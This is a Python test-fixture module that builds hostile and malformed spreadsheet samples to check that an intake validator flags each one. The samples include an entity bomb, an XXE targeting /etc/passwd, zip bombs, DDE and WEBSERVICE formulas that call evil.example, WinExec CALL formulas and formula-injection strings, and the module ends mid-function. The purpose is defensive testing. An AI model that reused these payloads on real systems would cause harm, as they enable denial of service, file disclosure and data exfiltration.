"""Build the hostile/broken intake corpus at test time (no binaries are committed).

``build_corpus(folder)`` writes every sample and returns ``{file name: expected code}``
(None = a valid workbook that must be readable with no issues). Samples that need
an optional tool (msoffcrypto-tool for a real encrypted workbook) are left out
when the tool is missing; the legacy .xls from LibreOffice is built by the test.
"""

from __future__ import annotations

import datetime as dt
import io
import struct
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

from openpyxl import Workbook

MiB = 1024 * 1024

NS_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
CT_PREFIX = "application/vnd.openxmlformats-officedocument"
REL_PREFIX = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

#: Files discover() must ignore (written by build_corpus, not inspected).
IGNORED_NAMES = ("~$lock.xlsx", ".hidden.xlsx", "_thoi_gian_nhan.csv")


# --------------------------------------------------------------------------- OOXML helpers


def valid_xlsx_bytes() -> bytes:
    """A small, ordinary report workbook made by openpyxl."""
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = "PL01"
    ws.append(["STT", "Tên xã", "Số hồ sơ"])
    for i in range(1, 21):
        ws.append([i, f"Xã số {i}", i * 7])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def rewrite(
    src: bytes,
    dest: Path,
    *,
    replace: dict[str, bytes] | None = None,
    add: dict[str, bytes] | None = None,
    content_types: list[str] | None = None,
    workbook_rels: list[str] | None = None,
    edit: dict[str, Callable[[bytes], bytes]] | None = None,
    extra: Callable[[zipfile.ZipFile], None] | None = None,
) -> Path:
    """Copy the xlsx ``src`` to ``dest`` with parts replaced, added or edited.

    ``content_types`` / ``workbook_rels`` are XML elements inserted into
    ``[Content_Types].xml`` / ``xl/_rels/workbook.xml.rels``; ``extra`` may
    write more entries (e.g. streamed ones) to the new zip.
    """
    replace = dict(replace or {})
    edits: dict[str, list[Callable[[bytes], bytes]]] = {k: [f] for k, f in (edit or {}).items()}
    if content_types:
        types = "".join(content_types).encode()
        edits.setdefault("[Content_Types].xml", []).append(
            lambda b: b.replace(b"</Types>", types + b"</Types>")
        )
    if workbook_rels:
        rels = "".join(workbook_rels).encode()
        edits.setdefault("xl/_rels/workbook.xml.rels", []).append(
            lambda b: b.replace(b"</Relationships>", rels + b"</Relationships>")
        )
    with (
        zipfile.ZipFile(io.BytesIO(src)) as zin,
        zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as zout,
    ):
        for info in zin.infolist():
            data = replace.pop(info.filename, None)
            if data is None:
                data = zin.read(info.filename)
            for change in edits.get(info.filename, []):
                data = change(data)
            zout.writestr(info.filename, data)
        for name, data in {**replace, **(add or {})}.items():
            zout.writestr(name, data)
        if extra is not None:
            extra(zout)
    return dest


def override(part: str, ctype: str) -> str:
    return f'<Override PartName="/{part}" ContentType="{ctype}"/>'


def rel(rid: str, rtype: str, target: str) -> str:
    return f'<Relationship Id="{rid}" Type="{rtype}" Target="{target}"/>'


def billion_laughs(encoding: str = "UTF-8") -> bytes:
    """sharedStrings.xml whose single string expands to 10**9 'lol's."""
    ents = ['<!ENTITY lol0 "lol">']
    ents += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    text = (
        f'<?xml version="1.0" encoding="{encoding}"?>\n'
        f"<!DOCTYPE sst [{''.join(ents)}]>\n"
        f'<sst xmlns="{NS_MAIN}" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>'
    )
    return text.encode("utf-16" if encoding == "UTF-16" else "utf-8")


def with_shared_strings(src: bytes, dest: Path, data: bytes) -> Path:
    """``src`` plus a registered xl/sharedStrings.xml holding ``data``."""
    return rewrite(
        src,
        dest,
        add={"xl/sharedStrings.xml": data},
        content_types=[
            override("xl/sharedStrings.xml", f"{CT_PREFIX}.spreadsheetml.sharedStrings+xml")
        ],
        workbook_rels=[rel("rIdSS", f"{REL_PREFIX}/sharedStrings", "sharedStrings.xml")],
    )


def stream_zeros(name: str, size: int) -> Callable[[zipfile.ZipFile], None]:
    """Write ``size`` zero bytes as one deflated entry, 1 MiB at a time."""

    def write(zf: zipfile.ZipFile) -> None:
        info = zipfile.ZipInfo(name)
        info.compress_type = zipfile.ZIP_DEFLATED
        chunk = bytes(MiB)
        with zf.open(info, "w", force_zip64=True) as fh:
            for _ in range(size // MiB):
                fh.write(chunk)

    return write


def lie_about_size(path: Path, part: str, declared: int) -> None:
    """Patch the local and central headers of ``part`` to declare ``declared`` bytes."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        offset = zf.getinfo(part).header_offset
    struct.pack_into("<I", data, offset + 22, declared)  # local header: uncompressed size
    name = part.encode()
    pos = data.find(b"PK\x01\x02")
    while pos >= 0:
        name_len = struct.unpack_from("<H", data, pos + 28)[0]
        if bytes(data[pos + 46 : pos + 46 + name_len]) == name:
            struct.pack_into("<I", data, pos + 24, declared)  # central: uncompressed size
            break
        pos = data.find(b"PK\x01\x02", pos + 4)
    path.write_bytes(bytes(data))


def plain_zip(dest: Path, parts: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return dest


# --------------------------------------------------------------------------- OLE helper

OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_ENDOFCHAIN, _FREESECT, _FATSECT, _NOSTREAM = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
_SECTOR = 512
_MINI_CUTOFF = 4096


def write_cfb(dest: Path, streams: dict[str, bytes]) -> Path:
    """A minimal Compound File (OLE2, v3) with root-level streams.

    Streams are padded to the mini-stream cutoff so they all live in regular
    sectors (no mini FAT needed); enough for olefile to list them.
    """
    items = sorted(streams.items(), key=lambda kv: (len(kv[0]), kv[0].upper()))
    datas = [data.ljust(_MINI_CUTOFF, b"\0") for _, data in items]
    n_dir = -(-(len(items) + 1) // 4)
    counts = [-(-len(d) // _SECTOR) for d in datas]
    n_fat = 1
    while n_fat * 128 < n_fat + n_dir + sum(counts):
        n_fat += 1
    assert n_fat <= 109, "too big for a header-only DIFAT"

    fat: list[int] = [_FATSECT] * n_fat

    def chain(count: int) -> int:
        start = len(fat)
        fat.extend(start + k + 1 for k in range(count - 1))
        fat.append(_ENDOFCHAIN)
        return start

    dir_start = chain(n_dir)
    starts = [chain(count) for count in counts]
    fat.extend([_FREESECT] * (n_fat * 128 - len(fat)))

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\0\0" if name else b""
        return struct.pack(
            "<64sHBBIII16sIQQIQ",
            raw,
            len(raw),
            kind,
            1 if kind else 0,
            _NOSTREAM,
            right,
            child,
            bytes(16),
            0,
            0,
            0,
            start,
            size,
        )

    entries = [entry("Root Entry", 5, 1 if items else _NOSTREAM, _NOSTREAM, _ENDOFCHAIN, 0)]
    for k, ((name, _), data, start) in enumerate(zip(items, datas, starts, strict=True)):
        right = k + 2 if k + 1 < len(items) else _NOSTREAM
        entries.append(entry(name, 2, _NOSTREAM, right, start, len(data)))
    while len(entries) < n_dir * 4:
        entries.append(entry("", 0, _NOSTREAM, _NOSTREAM, 0, 0))

    difat = list(range(n_fat)) + [_FREESECT] * (109 - n_fat)
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII109I",
        OLE_MAGIC,
        bytes(16),
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        bytes(6),
        0,
        n_fat,
        dir_start,
        0,
        _MINI_CUTOFF,
        _ENDOFCHAIN,
        0,
        _ENDOFCHAIN,
        0,
        *difat,
    )
    body = [header, struct.pack(f"<{len(fat)}I", *fat), b"".join(entries)]
    body += [d.ljust(count * _SECTOR, b"\0") for d, count in zip(datas, counts, strict=True)]
    dest.write_bytes(b"".join(body))
    return dest


# --------------------------------------------------------------------------- the corpus


def build_corpus(folder: Path) -> dict[str, str | None]:
    """Write every sample into ``folder``; return {file name: expected issue code}."""
    folder.mkdir(parents=True, exist_ok=True)
    ok = valid_xlsx_bytes()
    expected: dict[str, str | None] = {}

    def put(name: str, code: str | None) -> Path:
        expected[name] = code
        return folder / name

    # Valid, also under a misleading name (content decides, not the extension).
    put("valid.xlsx", None).write_bytes(ok)
    put("bao_cao_xa_01.dat", None).write_bytes(ok)

    # XML entity bombs / XXE.
    with_shared_strings(ok, put("entity_bomb.xlsx", "file-xml-entities"), billion_laughs())
    with_shared_strings(
        ok, put("entity_bomb_utf16.xlsx", "file-xml-entities"), billion_laughs("UTF-16")
    )
    xxe = (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        f'<workbook xmlns="{NS_MAIN}"><sheets/><definedNames><definedName name="a">&x;'
        "</definedName></definedNames></workbook>"
    ).encode()
    rewrite(ok, put("xxe.xlsx", "file-xml-entities"), replace={"xl/workbook.xml": xxe})

    # Zip bombs: a real 300 MB entry of zeros, one with a high ratio only, one that lies.
    rewrite(
        ok,
        put("zip_bomb.xlsx", "file-zip-bomb"),
        extra=stream_zeros("xl/worksheets/sheet2.xml", 300 * MiB),
    )
    rewrite(
        ok,
        put("zip_bomb_ratio.xlsx", "file-zip-bomb"),
        extra=stream_zeros("xl/media/image1.png", 40 * MiB),
    )
    lying = rewrite(
        ok,
        put("zip_lying_size.xlsx", "file-corrupt"),
        add={"xl/worksheets/sheet9.xml": b"<a/>" * (5 * MiB)},
    )
    lie_about_size(lying, "xl/worksheets/sheet9.xml", 1000)

    # Declared sheet dimension of the whole grid.
    def huge_dim(b: bytes) -> bytes:
        start = b.index(b"<dimension ref=")
        end = b.index(b"/>", start) + 2
        return b[:start] + b'<dimension ref="A1:XFD1048576"/>' + b[end:]

    rewrite(
        ok,
        put("huge_dimension.xlsx", "file-huge-dimension"),
        edit={"xl/worksheets/sheet1.xml": huge_dim},
    )

    # Too many parts.
    rewrite(
        ok,
        put("too_many_parts.xlsx", "file-too-many-parts"),
        add={f"customXml/item{i}.xml": b"<a/>" for i in range(2100)},
    )

    # Over the size cap (sparse: cheap on disk).
    with put("too_large.xlsx", "file-too-large").open("wb") as fh:
        fh.write(ok)
        fh.truncate(26 * MiB)

    # Encrypted (crafted OLE container; a real one via msoffcrypto-tool below) and legacy.
    write_cfb(
        put("encrypted_crafted.xlsx", "file-encrypted"),
        {"EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00", "EncryptedPackage": b"\x00" * 64},
    )
    _real_encrypted(ok, folder, put)
    bof = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0)
    write_cfb(put("legacy_crafted.xls", "file-legacy-xls"), {"Workbook": bof})
    write_cfb(put("word97.doc", "file-not-workbook"), {"WordDocument": b"\xec\xa5" + bytes(30)})
    put("broken_ole.xls", "file-corrupt").write_bytes(OLE_MAGIC + bytes(100))

    # Broken / not a workbook.
    put("truncated.xlsx", "file-corrupt").write_bytes(ok[: len(ok) // 2])
    put("photo.xlsx", "file-not-workbook").write_bytes(
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01" + bytes(200)
    )
    put("scan.pdf", "file-not-workbook").write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n")
    put("empty.xlsx", "file-not-workbook").write_bytes(b"")
    put("data.csv", "file-not-workbook").write_bytes(
        "STT,Tên xã,Số hồ sơ\n1,Xã Tịnh Khê,12\n".encode()
    )
    put("web_export.xls", "file-not-workbook").write_bytes(
        b"<!DOCTYPE html><html><body><table><tr><td>1</td></tr></table></body></html>"
    )
    plain_zip(
        put("bao_cao.docx", "file-not-workbook"),
        {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"},
    )
    plain_zip(put("gui_kem.zip", "file-not-workbook"), {"bao_cao.xlsx": ok})
    plain_zip(
        put("binary.xlsb", "file-unsupported-format"),
        {"[Content_Types].xml": b"<Types/>", "xl/workbook.bin": b"\x83\x01\x00"},
    )
    plain_zip(
        put("calc.ods", "file-unsupported-format"),
        {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<a/>"},
    )

    # Risky parts.
    macro_ct = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    xlsx_ct = f"{CT_PREFIX}.spreadsheetml.sheet.main+xml"
    rewrite(
        ok,
        put("macro.xlsm", "file-has-macros"),
        add={"xl/vbaProject.bin": OLE_MAGIC + b'Attribute VB_Name = "Module1"\nShell "calc"'},
        content_types=[
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        ],
        workbook_rels=[
            rel(
                "rIdVBA",
                "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                "vbaProject.bin",
            )
        ],
        edit={"[Content_Types].xml": lambda b: b.replace(xlsx_ct.encode(), macro_ct.encode())},
    )
    rewrite(
        ok,
        put("macro_content_type_only.xlsx", "file-has-macros"),
        edit={"[Content_Types].xml": lambda b: b.replace(xlsx_ct.encode(), macro_ct.encode())},
    )
    rewrite(
        ok,
        put("excel4_macro.xlsx", "file-has-macros"),
        add={"xl/macrosheets/sheet1.xml": b'<xm:macrosheet xmlns:xm="urn:x"/>'},
        content_types=[
            override("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml")
        ],
    )
    rewrite(
        ok,
        put("external_links.xlsx", "file-has-external-links"),
        add={"xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="urn:x"/>'},
        content_types=[
            override(
                "xl/externalLinks/externalLink1.xml", f"{CT_PREFIX}.spreadsheetml.externalLink+xml"
            )
        ],
    )
    rewrite(
        ok,
        put("hidden_external_link.xlsx", "file-has-external-links"),
        add={"xl/misc/part7.xml": b'<externalLink xmlns="urn:x"/>'},
        content_types=[
            override("xl/misc/part7.xml", f"{CT_PREFIX}.spreadsheetml.externalLink+xml")
        ],
    )
    rewrite(
        ok,
        put("embeddings.xlsx", "file-has-embedded-objects"),
        add={"xl/embeddings/oleObject1.bin": OLE_MAGIC + bytes(64)},
    )
    rewrite(
        ok,
        put("activex.xlsx", "file-has-activex"),
        add={
            "xl/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="urn:x"/>',
            "xl/activeX/activeX1.bin": bytes(32),
        },
    )
    rewrite(
        ok,
        put("connections.xlsx", "file-has-data-connections"),
        add={"xl/connections.xml": b'<connections xmlns="urn:x"/>'},
    )

    _zip_views(ok, put)
    _outward_formulas(ok, put)
    _relationships(ok, put)
    _parts_the_reader_reads(ok, put)
    _valid_lookalikes(ok, put)

    # discover() must skip these; they are not part of `expected`.
    (folder / "~$lock.xlsx").write_bytes(b"\x0cNguyen Van A" + bytes(150))
    (folder / ".hidden.xlsx").write_bytes(ok)
    (folder / "_thoi_gian_nhan.csv").write_text("tep,thoi_gian\nvalid.xlsx,2025-01-01\n")
    return expected


def _real_encrypted(ok: bytes, folder: Path, put: Callable[[str, str | None], Path]) -> None:
    """A genuinely password-protected workbook (ECMA-376 agile), when msoffcrypto exists."""
    try:
        from msoffcrypto.format.ooxml import OOXMLFile
    except ImportError:  # optional: oletools usually brings it
        return
    with put("encrypted.xlsx", "file-encrypted").open("wb") as out:
        OOXMLFile(io.BytesIO(ok)).encrypt("matkhau", out)


# --------------------------------------------------------------------------- more intake

Put = Callable[[str, "str | None"], Path]
SHEET = "xl/worksheets/sheet1.xml"
WORKBOOK = "xl/workbook.xml"
CELL_C2 = b'<c r="C2" t="n"><v>7</v></c>'


def _sheet_edit(old: bytes, new: bytes) -> dict[str, Callable[[bytes], bytes]]:
    def change(data: bytes) -> bytes:
        assert old in data, old
        return data.replace(old, new, 1)

    return {SHEET: change}


def _formula_in_c2(ok: bytes, dest: Path, formula: str) -> Path:
    cell = f'<c r="C2"><f>{escape(formula)}</f><v>0</v></c>'.encode()
    return rewrite(ok, dest, edit=_sheet_edit(CELL_C2, cell))


def _twin(ok: bytes, dest: Path, name: str) -> Path:
    """``ok`` plus a second entry whose name collides with ``name`` for some reader."""
    with zipfile.ZipFile(io.BytesIO(ok)) as zin:
        original = zin.read(name) if name in zin.namelist() else b"<x/>"
    twin_name = name.upper() if "\\" not in name else name
    return rewrite(ok, dest, add={twin_name: original.replace(b"<v>7</v>", b"<v>9999</v>")})


def _zip_views(ok: bytes, put: Put) -> None:
    """Entry names that two readers resolve to different parts."""
    rewrite(
        ok,
        put("twin_case_sheet.xlsx", "file-duplicate-parts"),
        add={"XL/Worksheets/Sheet1.xml": b"<worksheet/>"},
    )
    rewrite(
        ok,
        put("twin_backslash_sheet.xlsx", "file-duplicate-parts"),
        add={"xl\\worksheets\\sheet1.xml": b"<worksheet/>"},
    )
    rewrite(
        ok,
        put("twin_content_types.xlsx", "file-duplicate-parts"),
        add={"[content_types].xml": b"<Types/>"},
    )
    rewrite(
        ok,
        put("twin_workbook_rels.xlsx", "file-duplicate-parts"),
        add={"XL/_RELS/WORKBOOK.XML.RELS": b"<Relationships/>"},
    )

    def same_name_twice(zf: zipfile.ZipFile) -> None:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            zf.writestr(SHEET, b"<worksheet/>")

    rewrite(ok, put("twin_exact_name.xlsx", "file-duplicate-parts"), extra=same_name_twice)


def build_read_corpus(folder: Path) -> dict[str, str | None]:
    """Samples refused when the reader is about to parse a sheet (``SheetGuard``):
    {file name: expected code}. They pass intake; ``validate`` refuses them."""
    folder.mkdir(parents=True, exist_ok=True)
    expected: dict[str, str | None] = {}

    def put(name: str, code: str | None) -> Path:
        expected[name] = code
        return folder / name

    _cells(valid_xlsx_bytes(), put)
    return expected


def _cells(ok: bytes, put: Put) -> None:
    """Cells the reader would read twice, or a grid far larger than declared."""
    rewrite(
        ok,
        put("duplicate_cell.xlsx", "file-duplicate-cells"),
        edit=_sheet_edit(CELL_C2, CELL_C2 + b'<c r="C2" t="n"><v>70000</v></c>'),
    )
    rewrite(
        ok,
        put("duplicate_row.xlsx", "file-duplicate-cells"),
        edit=_sheet_edit(b"</sheetData>", b'<row r="2"><c r="C2"><v>5</v></c></row></sheetData>'),
    )
    rewrite(  # no addresses: the second row 2 and its first cell land on A2 again
        ok,
        put("duplicate_cell_implied.xlsx", "file-duplicate-cells"),
        edit=_sheet_edit(b"</sheetData>", b'<row r="2"><c><v>5</v></c></row></sheetData>'),
    )
    rewrite(
        ok,
        put("far_cell.xlsx", "file-huge-dimension"),
        edit=_sheet_edit(
            b"</sheetData>",
            b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>',
        ),
    )

    def far_without_dimension(data: bytes) -> bytes:
        data = data.replace(b'<dimension ref="A1:C21"/>', b"")
        return data.replace(
            b"</sheetData>", b'<row r="900000"><c r="ZZ900000"><v>1</v></c></row></sheetData>'
        )

    rewrite(
        ok,
        put("far_cell_no_dimension.xlsx", "file-huge-dimension"),
        edit={SHEET: far_without_dimension},
    )
    rewrite(
        ok,
        put("bad_cell_address.xlsx", "file-corrupt"),
        edit=_sheet_edit(b'<c r="C2" t="n">', b'<c r="2C" t="n">'),
    )


#: Formulas that reach outside the workbook (each gets file-has-external-formulas).
OUTWARD = {
    "dde_cmd": "cmd|' /C calc'!A0",
    "dde_msexcel": "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "dde_in_sum": "SUM(1,cmd|'/c notepad'!A0)",
    "external_index": "[1]Sheet1!A1",
    "external_index_sum": "SUM([2]Data!$A$1:$A$9)",
    "external_path": "'C:\\Users\\x\\[so_lieu.xlsx]Sheet1'!A1",
    "external_url": "'https://evil.example/share/[a.xlsx]S'!A1",
    "external_unc": "'\\\\server\\share\\[b.xlsx]S'!B2",
    "webservice": '_xlfn.WEBSERVICE("http://evil.example/?d="&A1)',
    "webservice_lower": 'webservice("http://evil.example/")',
    "filterxml": '_xlfn.FILTERXML(WEBSERVICE("http://x/"),"//a")',
    "hyperlink": 'HYPERLINK("http://evil.example/","Bấm vào đây")',
    "rtd": 'RTD("progid",,"topic")',
    "call": 'CALL("Kernel32","WinExec","JCJ","calc",0)',
    "register_id": 'REGISTER.ID("Kernel32","WinExec","JCJ")',
    "image": '_xlfn.IMAGE("http://evil.example/x.png")',
    "stockhistory": '_xlfn.STOCKHISTORY("MSFT",TODAY())',
}


def _outward_formulas(ok: bytes, put: Put) -> None:
    code = "file-has-external-formulas"
    for name, formula in OUTWARD.items():
        _formula_in_c2(ok, put(f"formula_{name}.xlsx", code), formula)
    shared = b'<c r="C2"><f t="shared" ref="C2:C5" si="0">cmd|\'/c calc\'!A0</f><v>0</v></c>'
    rewrite(ok, put("formula_dde_shared.xlsx", code), edit=_sheet_edit(CELL_C2, shared))
    prefixed = (
        b'<c r="C2" xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b"<x:f>cmd|'/c calc'!A0</x:f><v>0</v></c>"
    )
    rewrite(ok, put("formula_dde_prefixed.xlsx", code), edit=_sheet_edit(CELL_C2, prefixed))
    rewrite(
        ok,
        put("defined_name_dde.xlsx", code),
        edit={
            WORKBOOK: lambda b: b.replace(
                b"<definedNames/>",
                b"<definedNames><definedName name=\"x\">cmd|'/c calc'!A0</definedName>"
                b"</definedNames>",
            )
        },
    )
    validation = (
        b'<dataValidations count="1"><dataValidation type="list" sqref="B2">'
        b"<formula1>[1]Lists!$A$1:$A$5</formula1></dataValidation></dataValidations>"
    )
    rewrite(
        ok,
        put("validation_external.xlsx", code),
        edit=_sheet_edit(b"</sheetData>", b"</sheetData>" + validation),
    )
    rule = (
        b'<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
        b'<formula>WEBSERVICE("http://evil.example/")="x"</formula></cfRule>'
        b"</conditionalFormatting>"
    )
    rewrite(
        ok,
        put("conditional_webservice.xlsx", code),
        edit=_sheet_edit(b"</sheetData>", b"</sheetData>" + rule),
    )


RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
DDE_LINK = (
    b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/></ddeItems>'
    b"</ddeLink></externalLink>"
)


def _relationships(ok: bytes, put: Put) -> None:
    """Risky things declared only through relationships or elements (no content type)."""
    links = "file-has-external-links"
    rewrite(
        ok,
        put("rel_dde_link_odd_name.xlsx", links),
        add={"xl/misc/data.bin": DDE_LINK},
        workbook_rels=[rel("rIdX", f"{RT}externalLink", "misc/data.bin")],
    )
    rewrite(
        ok,
        put("rel_external_link_xml.xlsx", links),
        add={"xl/misc/link.xml": DDE_LINK},
        workbook_rels=[rel("rIdX", f"{RT}externalLink", "misc/link.xml")],
    )
    rewrite(ok, put("dde_element_unreferenced.xlsx", links), add={"xl/extra/p.xml": DDE_LINK})
    rewrite(
        ok,
        put("ole_link_element.xlsx", links),
        add={
            "xl/extra/o.xml": b'<externalLink xmlns="urn:x"><oleLink r:id="rId1"/></externalLink>'
        },
    )
    rewrite(
        ok,
        put("external_book_element.xlsx", links),
        add={"xl/extra/b.xml": b'<externalLink xmlns="urn:x"><externalBook/></externalLink>'},
    )
    external = 'TargetMode="External"'

    def rel_ext(rid: str, rtype: str, target: str) -> str:
        return rel(rid, rtype, target).replace("/>", f" {external}/>")

    rewrite(
        ok,
        put("rel_external_image.xlsx", links),
        workbook_rels=[rel_ext("rIdX", f"{RT}image", "http://evil.example/track.png")],
    )
    rewrite(
        ok,
        put("rel_attached_template.xlsx", links),
        workbook_rels=[rel_ext("rIdX", f"{RT}attachedTemplate", "file:///C:/t/x.xltm")],
    )
    rewrite(
        ok,
        put("rel_external_ole.xlsx", "file-has-embedded-objects"),
        workbook_rels=[rel_ext("rIdX", f"{RT}oleObject", "file:///C:/x/y.doc")],
    )
    rewrite(
        ok,
        put("rel_vba_odd_name.xlsx", "file-has-macros"),
        add={"xl/data.dat": OLE_MAGIC + bytes(64)},
        workbook_rels=[
            rel(
                "rIdX",
                "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                "data.dat",
            )
        ],
    )
    rewrite(
        ok,
        put("rel_control.xlsx", "file-has-activex"),
        workbook_rels=[rel("rIdX", f"{RT}control", "ctrl/c.xml")],
    )
    rewrite(
        ok,
        put("rel_connections_odd_name.xlsx", "file-has-data-connections"),
        add={"xl/c/q.xml": b'<connections xmlns="urn:x"/>'},
        workbook_rels=[rel("rIdX", f"{RT}connections", "c/q.xml")],
    )
    rewrite(
        ok,
        put("rel_query_table.xlsx", "file-has-data-connections"),
        workbook_rels=[rel("rIdX", f"{RT}queryTable", "q/t.xml")],
    )


def _parts_the_reader_reads(ok: bytes, put: Put) -> None:
    """Parts python-calamine parses whatever their extension or declared type."""
    bomb = billion_laughs()
    rewrite(  # the sheet stored under an image name and type still is parsed as a sheet
        ok,
        put("sheet_named_png_with_dtd.xlsx", "file-xml-entities"),
        replace={SHEET: b"<worksheet/>"},
        add={"xl/worksheets/sheet9.png": bomb},
        content_types=[override("xl/worksheets/sheet9.png", "image/png")],
    )
    rewrite(  # sharedStrings is looked up by name, whatever [Content_Types] says
        ok,
        put("shared_strings_as_image.xlsx", "file-xml-entities"),
        add={"xl/sharedStrings.xml": bomb},
        content_types=[override("xl/sharedStrings.xml", "image/png")],
    )
    rewrite(  # a sheet stored under a name with no .xml: the reader still parses it
        ok,
        put("sheet_named_bin_with_dtd.xlsx", "file-xml-entities"),
        add={"xl/worksheets/sheet7.bin": bomb},
        content_types=[override("xl/worksheets/sheet7.bin", "application/octet-stream")],
    )


def _valid_lookalikes(ok: bytes, put: Put) -> None:
    """Files that look odd but are fine: they must pass with no issue at all."""
    _formula_in_c2(ok, put("valid_pipe_in_string.xlsx", None), 'IF(A2="a|b",1,0)')
    _formula_in_c2(ok, put("valid_structured_ref.xlsx", None), "SUM(Bang1[[#This Row],[Cot]])")
    _formula_in_c2(ok, put("valid_local_sheet_ref.xlsx", None), "SUM('PL01'!A2:A21)*2")
    _formula_in_c2(ok, put("valid_bracket_in_string.xlsx", None), 'IF(A2="[1]",1,0)')
    rewrite(
        ok,
        put("valid_web_hyperlink_rel.xlsx", None),
        workbook_rels=[
            rel("rIdX", f"{RT}hyperlink", "https://dichvucong.gov.vn/").replace(
                "/>", ' TargetMode="External"/>'
            )
        ],
    )
    styled = b"".join(f'<c r="{col}1" s="0"/>'.encode() for col in ("XFA", "XFB", "XFC", "XFD"))
    rewrite(  # empty styled cells far away cost nothing: the reader drops them
        ok,
        put("valid_styled_far_cells.xlsx", None),
        edit=_sheet_edit(
            b"</sheetData>",
            b'<row r="1048576">' + styled.replace(b'1"', b'1048576"') + b"</row></sheetData>",
        ),
    )

    def no_addresses(data: bytes) -> bytes:
        import re

        data = re.sub(rb'<c r="[A-Z]+[0-9]+"', b"<c", data)
        return re.sub(rb'<row r="[0-9]+"', b"<row", data)

    rewrite(ok, put("valid_cells_without_addresses.xlsx", None), edit={SHEET: no_addresses})


# --------------------------------------------------------------------------- workbooks

#: A number written into a template cell, then replaced in the sheet XML by a value no
#: writer would produce (NaN, infinities, beyond the float range).
SENTINEL = 987654.25
#: Text that must never be interpreted anywhere (console markup, formulas, fields).
INJECTIONS = {
    "text_markup": "[/red][bold]Xã[/bold] [link=http://evil.example]bấm[/link]",
    "text_formula_hyperlink": '=HYPERLINK("http://evil.example/","Bấm vào đây")',
    "text_formula_dde": "=cmd|' /C calc'!A0",
    "text_formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "text_formula_plus": "+cmd|' /C calc'!A0",
    "text_formula_minus": "-2+3+cmd|' /C calc'!A0",
    "text_formula_tab": "\t=cmd|' /C calc'!A0",
    "text_field_code": (
        '{ HYPERLINK "http://evil.example" } { DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe }'
    ),
    "text_control_chars": "a\x01b\x07c\x1b[31md\x1b]0;title\x07",
    "text_bidi": "hợp lệ \u202egnp.exe",
    "text_emoji_codes": ":warning: :thumbs_up: %s {0} {units_total}",
    "text_long": "Mô tả dài " * 3000,
}
#: Markers of attacker text: none may appear inside any formula or field we write.
MARKERS = ("evil.example", "cmd|", "calc", "DDEAUTO", 'HYPERLINK("http')


def _patch_sheet_values(path: Path, replacement: bytes) -> None:
    """Every ``<v>SENTINEL</v>`` in the workbook's sheets becomes ``<v>replacement</v>``."""
    data = path.read_bytes()
    src = io.BytesIO(data)
    out = io.BytesIO()
    found = False
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            part = zin.read(info.filename)
            if info.filename.startswith("xl/worksheets/"):
                needle = f"<v>{SENTINEL}</v>".encode()
                found = found or needle in part
                part = part.replace(needle, b"<v>" + replacement + b"</v>")
            zout.writestr(info, part)
    assert found, path
    path.write_bytes(out.getvalue())


def _patch_shared_string(path: Path, old: str, new: str) -> None:
    data = path.read_bytes()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w") as zout:
        for info in zin.infolist():
            part = zin.read(info.filename)
            if info.filename == "xl/sharedStrings.xml":
                needle = f"<t>{escape(old)}</t>".encode()
                assert needle in part, (path, old)
                part = part.replace(needle, f"<t>{escape(new)}</t>".encode())
            zout.writestr(info, part)
    path.write_bytes(out.getvalue())


def build_workbooks(folder: Path, mappings: Any) -> dict[str, frozenset[str]]:
    """Standard workbooks carrying hostile values: {file name: codes validate must give}.

    Every file is from a different unit, so every value reaches consolidation.
    """
    from xlsaddin.forms import Filled, write_workbook
    from xlsaddin.units import load_units

    folder.mkdir(parents=True, exist_ok=True)
    units = iter(load_units())
